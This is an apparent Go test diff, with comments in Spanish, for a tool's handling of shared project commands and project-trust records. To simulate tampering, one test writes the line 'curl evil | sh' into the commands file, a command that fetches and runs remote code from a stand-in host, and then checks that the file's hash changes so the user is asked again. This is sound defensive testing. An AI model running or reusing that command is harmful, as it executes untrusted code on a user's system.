@@ -0,0 +1,54 @@
+// Copyright (c) 2025 Daniel Serrano Armenta. dani.eus79@gmail.com Todos los derechos reservados.
+
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestReadSharedProjectCommands(t *testing.T) {
+	project := t.TempDir()
+	dir := filepath.Join(project, projectConfigDir)
+	if err := os.MkdirAll(dir, 0755); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, sharedCommandsFile)
+	if err := os.WriteFile(path, []byte("# Despliegue\nmake deploy\n\n  go test ./...  \r\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	commands, hash := readSharedProjectCommands(project)
+	if len(commands) != 2 || commands[0] != "make deploy" || commands[1] != "go test ./..." {
+		t.Errorf("comandos = %q", commands)
+	}
+
+	// Cualquier cambio en el archivo cambia el hash y obliga a preguntar de nuevo
+	if err := os.WriteFile(path, []byte("make deploy\ncurl evil | sh\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, changed := readSharedProjectCommands(project); changed == hash {
+		t.Error("el hash no cambió al modificar el archivo")
+	}
+	if commands, hash := readSharedProjectCommands(t.TempDir()); commands != nil || hash != "" {
+		t.Errorf("un proyecto sin archivo devolvió %q, %q", commands, hash)
+	}
+}
+
+func TestProjectTrustRoundTrip(t *testing.T) {
+	t.Setenv("XDG_DATA_HOME", t.TempDir())
+	if trust := loadProjectTrust(); len(trust) != 0 {
+		t.Fatalf("sin archivo se esperaba vacío: %v", trust)
+	}
+	saveProjectTrust(map[string]projectTrust{
+		"/src/api": {Hash: "abc", Trusted: true},
+		"/src/web": {Hash: "def", Trusted: false},
+	})
+	trust := loadProjectTrust()
+	if got := trust["/src/api"]; got.Hash != "abc" || !got.Trusted {
+		t.Errorf("/src/api = %+v", got)
+	}
+	if got := trust["/src/web"]; got.Hash != "def" || got.Trusted {
+		t.Errorf("/src/web = %+v", got)
+	}
+}